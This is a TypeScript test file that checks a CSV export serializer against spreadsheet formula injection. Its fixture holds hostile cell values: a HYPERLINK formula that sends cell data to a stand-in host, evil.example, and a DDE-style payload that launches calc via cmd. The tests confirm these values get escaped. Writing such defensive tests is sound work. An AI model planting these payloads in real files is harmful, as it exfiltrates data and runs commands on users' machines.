import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { ExportGraph } from '../../src/export/ExportGraph.js';
import { serializeCsvZip } from '../../src/export/serializeCsvZip.js';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';

/** Names, labels, roles and excerpts that a spreadsheet would run as formulas if written as they are. */
const hostile: ExportGraph = {
  truncated: false,
  directed: true,
  nodes: [
    {
      id: 'organization/evil',
      kind: 'ORGANIZATION',
      measures: { degree: 1, betweenness: 0, community: 0 },
      label: HYPERLINK,
      names: { en: HYPERLINK, ru: '+7 727 000 00 00', kk: "@SUM(1+1)*cmd|' /C calc'!A0" },
      aliases: ['=1+2'],
      attributes: [],
      evidence: [],
      start: null,
    },
    {
      id: 'organization/tabs',
      kind: 'ORGANIZATION',
      measures: { degree: 1, betweenness: 0, community: 0 },
      label: '\t=1+2',
      names: { en: '\r=1+2', ru: '-5', kk: 'x,=1+2";=1+2' },
      aliases: [],
      attributes: [],
      evidence: [],
      start: null,
    },
    {
      id: 'organization/plain',
      kind: 'ORGANIZATION',
      measures: { degree: 1, betweenness: 0, community: 0 },
      label: 'Plain name',
      names: { en: "'quoted already", ru: null, kk: null },
      aliases: [],
      attributes: [],
      evidence: [],
      start: null,
    },
  ],
  edges: [
    {
      id: 'relation/evil',
      source: 'organization/evil',
      target: 'organization/tabs',
      type: 'PARTY_TO',
      label: '-party',
      role: '=role()',
      date: null,
      evidence: [
        { excerpt: '=x', sourceId: 'source/s', sourceTitle: '=title', publisher: null, publishedOn: null, url: null },
      ],
      basis: 'INFERRED',
      inference: '=cmd()',
    },
  ],
};

describe('CSV export against formula injection (issue 20, repro 11)', () => {
  const files = unzipSync(serializeCsvZip(hostile));
  const nodesText = strFromU8(files['nodes.csv']!);
  const edgesText = strFromU8(files['edges.csv']!);
  const nodes = parse(nodesText, { columns: true, bom: true }) as Record<string, string>[];
  const edges = parse(edgesText, { columns: true, bom: true }) as Record<string, string>[];

  it('prefixes a single quote to every cell starting with =, +, -, @, tab or carriage return, and reads back as that text', () => {
    expect(nodes[0]).toMatchObject({
      label: `'${HYPERLINK}`,
      name_en: `'${HYPERLINK}`,
      name_ru: "'+7 727 000 00 00",
      name_kk: "'@SUM(1+1)*cmd|' /C calc'!A0",
    });
    expect(nodes[1]).toMatchObject({ label: "'\t=1+2", name_en: "'\r=1+2", name_ru: "'-5" });
    expect(edges[0]).toMatchObject({ label: "'-party", role: "'=role()", basis: 'INFERRED', inference: "'=cmd()" });
  });

  it('quotes every field, so that a separator or quote inside a value cannot start a new cell', () => {
    expect(nodesText).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
    expect(nodes[1]?.['name_kk']).toBe('x,=1+2";=1+2');
    expect(nodesText).toContain('"x,=1+2"";=1+2"');
    expect(nodesText).toContain('"organization/tabs","\'\t=1+2","ORGANIZATION","\'\r=1+2","\'-5"');
  });

  it('leaves safe values as they are: ids, JSON lists and text starting with a letter or a quote', () => {
    expect(nodes.map((node) => node['id'])).toEqual(['organization/evil', 'organization/tabs', 'organization/plain']);
    expect(JSON.parse(nodes[0]?.['aliases'] ?? '')).toEqual(['=1+2']);
    expect(nodes[2]).toMatchObject({ label: 'Plain name', name_en: "'quoted already", name_ru: '' });
    expect(JSON.parse(edges[0]?.['evidence'] ?? '')).toEqual([
      { excerpt: '=x', sourceId: 'source/s', sourceTitle: '=title', publisher: null, publishedOn: null, url: null },
    ]);
  });
});
